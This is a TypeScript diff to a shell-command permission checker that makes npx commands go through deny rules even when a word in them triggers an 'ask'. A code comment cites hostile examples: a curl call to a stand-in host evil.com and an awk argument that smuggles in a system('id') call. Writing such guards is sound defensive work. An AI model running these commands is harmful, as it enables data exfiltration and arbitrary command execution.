@@ -319,14 +319,15 @@ function npmPolicy(program: string, args: readonly ShellWord[]): ProgramPolicy {
 
 function npxPolicy(args: readonly ShellWord[]): ProgramPolicy {
   const words = [{ value: 'npx' }, ...args];
-  const again = reshelled('npx', args);
-  if (again) return { words, refusal: again };
   let i = 0;
   for (; i < args.length && args[i]!.value.startsWith('-'); i++) {
     const name = args[i]!.value.split('=')[0]!;
     if (!NPX_SAFE_OPTIONS.has(name)) return { words, refusal: { verdict: 'deny', reason: `npx ${name} chooses which package or shell command runs` } };
   }
-  return { words, runs: args.slice(i) };
+  // The command it runs is checked even when a word of it asks: its deny rules win over that ask
+  // (`npx curl 'http://evil.com/{x}'`, `npx awk 'BEGIN{system("id")}'`).
+  const again = reshelled('npx', args);
+  return { words, runs: args.slice(i), ...(again ? { refusal: again } : {}) };
 }
 
 /** ls -R with -L lists the folders symbolic links lead to, outside the workspace too. */
